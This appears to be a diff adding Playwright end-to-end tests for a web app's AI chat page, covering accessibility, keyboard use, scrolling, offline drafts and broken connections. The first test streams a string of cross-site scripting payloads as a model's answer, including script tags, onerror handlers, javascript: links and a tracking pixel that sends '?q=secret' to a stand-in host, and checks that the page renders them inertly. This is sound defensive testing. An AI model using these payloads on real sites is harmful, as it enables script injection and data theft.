@@ -1,0 +1,207 @@
+import { type Page } from '@playwright/test';
+import { contentShown, expectAccessibleInBoth, expectNoSidewaysScroll } from './pages/accessible';
+import { askInChat, lastAnswer } from './pages/chat';
+import { expect, test } from './pages/journey';
+import { ScriptedAnswer } from './pages/scripted-answer';
+import { newEmail, signIn } from './pages/visitor';
+
+const PHONE = { width: 390, height: 844 };
+const DESK = { width: 1440, height: 900 };
+
+const HOSTILE = `<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
+<iframe src="https://evil.test/frame"></iframe><style>body { display: none }</style>
+
+![tracker](https://evil.test/pixel.png?q=secret) [click](javascript:window.hacked=1) [out](https://evil.test/page)
+[data](data:text/html,<script>1</script>) <a href="https://evil.test">raw</a> <form action="https://evil.test"><input></form>
+
+| wide | ${'column | '.repeat(14)}
+| --- | ${'--- | '.repeat(14)}
+| ${'a-cell-that-does-not-break | '.repeat(15)}
+
+\`\`\`html
+<script>${'long '.repeat(80)}</script>
+\`\`\`
+
+${'unbreakable'.repeat(60)}`;
+
+const openChat = async (page: Page): Promise<ScriptedAnswer> => {
+  const script = await ScriptedAnswer.install(page);
+  await signIn(page, newEmail('chat-page'));
+  await page.goto('/dashboard/chat');
+  await expect(page.getByText('20 of 20 messages left')).toBeVisible();
+  return script;
+};
+const said = (page: Page, text: string) => page.getByRole('status').filter({ hasText: text });
+const conversation = (page: Page) => page.getByRole('region', { name: 'Conversation' });
+
+test.describe('the page of the chat', () => {
+  test('shows what a hostile model writes as text, and fetches nothing for it', async ({
+    page,
+  }) => {
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.test')) foreign.push(request.url());
+    });
+    const script = await openChat(page);
+    await askInChat(page, 'Be evil');
+    await script.begin('Be evil');
+    for (let at = 0; at < HOSTILE.length; at += 37) await script.write(HOSTILE.slice(at, at + 37));
+    await script.complete(HOSTILE);
+
+    const answer = lastAnswer(page);
+    await expect(answer.getByText('unbreakableunbreakable')).toBeVisible();
+    await expect(answer.locator('script, img, iframe, style, form, input, object')).toHaveCount(0);
+    await expect(answer).toContainText('<script>window.hacked = 1</script>');
+    const links = await answer
+      .getByRole('link')
+      .evaluateAll((all) =>
+        all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]),
+      );
+    expect(links.map(([href]) => href).sort()).toEqual([
+      'https://evil.test/page',
+      'https://evil.test/pixel.png?q=secret',
+    ]);
+    for (const [, rel] of links) expect(rel).toBe('noopener noreferrer nofollow');
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(foreign).toEqual([]);
+
+    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+    await answer.locator('figure').getByRole('button', { name: 'Copy' }).click();
+    await expect(answer.getByText('Copied')).toBeVisible();
+    for (const size of [DESK, PHONE]) {
+      await page.setViewportSize(size);
+      await expectNoSidewaysScroll(page, `a hostile answer at ${size.width}`);
+      await expectAccessibleInBoth(page, `a hostile answer at ${size.width}`);
+    }
+  });
+
+  test('has no accessibility violations while empty, answering, and with its history open', async ({
+    page,
+  }) => {
+    const script = await openChat(page);
+    await expect(page.getByText('Your chats will be listed here.')).toBeVisible();
+    for (const size of [DESK, PHONE]) {
+      await page.setViewportSize(size);
+      await contentShown(page);
+      await expectAccessibleInBoth(page, `empty at ${size.width}`);
+    }
+    await askInChat(page, 'What does Pro give?');
+    await expectAccessibleInBoth(page, 'waiting');
+    await script.begin('What does Pro give?');
+    await script.cite({ heading: 'What each plan gives', anchor: 'what-each-plan-gives' });
+    await script.write('Pro gives 2,000 messages [1].\n\n- one\n- two\n\n```sh\nnpm start');
+    await expectAccessibleInBoth(page, 'answering');
+    await page.getByRole('button', { name: 'History', exact: true }).click();
+    await expect(page.getByRole('button', { name: 'Close the history' })).toBeVisible();
+    await expectAccessibleInBoth(page, 'history on a phone');
+    await page.keyboard.press('Escape');
+    await expect(page.getByRole('button', { name: 'Close the history' })).toBeHidden();
+    await expect(page.getByRole('button', { name: 'History', exact: true })).toBeFocused();
+  });
+
+  test('is used with keys alone, and says what happens', async ({ page }) => {
+    const script = await openChat(page);
+    const field = page.getByRole('textbox', { name: 'Your question' });
+    await field.focus();
+    await page.keyboard.type('First line');
+    await page.keyboard.press('Shift+Enter');
+    await page.keyboard.type('second line');
+    await page.keyboard.press('Enter');
+    expect(await script.asked()).toMatchObject([{ kind: 'ask', text: 'First line\nsecond line' }]);
+    await expect(said(page, 'The answer is being written.')).toBeAttached();
+    await expect(field).toBeFocused();
+    await script.begin('First line\nsecond line');
+    await script.write('Half an ');
+    await page.keyboard.type('next thought');
+    await page.keyboard.press('Escape');
+    await expect(lastAnswer(page)).toContainText('Stopped');
+    await expect(said(page, 'The answer was stopped.')).toBeAttached();
+    await expect(field).toHaveValue('next thought'); // typed while it answered
+    await expect(field).toBeFocused();
+    await page.keyboard.press('Enter');
+    await script.begin('next thought');
+    await script.complete('Done.');
+    await expect(said(page, 'The answer is complete.')).toBeAttached();
+  });
+
+  test('follows the end of an answer until somebody scrolls up to read', async ({ page }) => {
+    const script = await openChat(page);
+    await askInChat(page, 'Tell me everything');
+    await script.begin('Tell me everything');
+    const lines = (from: number) =>
+      Array.from({ length: 40 }, (_, n) => `Line ${from + n}.\n\n`).join('');
+    await script.write(lines(0));
+    const toEnd = () =>
+      conversation(page).evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
+    await expect(page.getByText('Line 39.')).toBeInViewport();
+    expect(await toEnd()).toBeLessThan(80);
+    await conversation(page).evaluate((box) => box.scrollTo({ top: 120 }));
+    await expect(page.getByRole('button', { name: 'To the end' })).toBeVisible();
+    await script.write(lines(40));
+    await expect(page.getByText('Line 79.')).toBeAttached();
+    expect(await conversation(page).evaluate((box) => box.scrollTop)).toBe(120);
+    await page.getByRole('button', { name: 'To the end' }).click();
+    await expect(page.getByText('Line 79.')).toBeInViewport();
+    await script.write(lines(80));
+    await expect(page.getByText('Line 119.')).toBeInViewport();
+  });
+
+  test('keeps what was typed: offline, over a reload, and when the answer cannot begin', async ({
+    page,
+    context,
+  }) => {
+    await signIn(page, newEmail('chat-draft'));
+    await page.goto('/dashboard/chat');
+    const field = page.getByRole('textbox', { name: 'Your question' });
+    await field.fill('A long thought that must not be lost');
+    await page.reload();
+    await expect(field).toHaveValue('A long thought that must not be lost');
+    await context.setOffline(true);
+    await field.press('Enter');
+    await expect(page.getByRole('alert').filter({ hasText: /offline|connection/i })).toBeVisible();
+    await expect(field).toHaveValue('A long thought that must not be lost');
+    await expectAccessibleInBoth(page, 'offline');
+    await context.setOffline(false);
+    await conversation(page).getByRole('button', { name: 'Retry' }).click();
+    await expect(lastAnswer(page).getByRole('button', { name: 'Copy' })).toBeVisible();
+    await expect(field).toHaveValue('');
+  });
+
+  test('a connection that breaks leaves what arrived, and a way to the rest', async ({ page }) => {
+    const script = await openChat(page);
+    await askInChat(page, 'What does Pro give?');
+    await script.begin('What does Pro give?');
+    await script.write('Pro gives');
+    await script.breakOff();
+    await expect(page.getByText('The connection broke')).toBeVisible();
+    await expect(lastAnswer(page)).toContainText('Pro gives');
+    await expectAccessibleInBoth(page, 'a broken connection');
+  });
+
+  test('the panel of the dashboard answers, cites, and hands over to the chat', async ({
+    page,
+  }) => {
+    const script = await ScriptedAnswer.install(page);
+    await signIn(page, newEmail('chat-panel'));
+    const panel = page.getByRole('region', { name: 'AI chat' });
+    // Parts below the fold are loaded when somebody scrolls to them.
+    await expect(async () => {
+      await page.mouse.wheel(0, 400);
+      await expect(panel.getByRole('textbox')).toBeVisible({ timeout: 500 });
+    }).toPass();
+    await askInChat(page, 'What does Pro give?');
+    await script.begin('What does Pro give?');
+    await script.cite({});
+    await script.write('2,000 messages [1].');
+    await expect(panel.getByRole('link', { name: 'Source 1: Plans' })).toHaveAttribute(
+      'href',
+      '/learn/plans-and-limits',
+    );
+    await expect(panel.getByRole('link', { name: 'Go on in the chat' })).toBeVisible();
+    for (const size of [DESK, PHONE]) {
+      await page.setViewportSize(size);
+      await expectNoSidewaysScroll(page, `the panel at ${size.width}`);
+      await expectAccessibleInBoth(page, `the panel at ${size.width}`);
+    }
+  });
+});
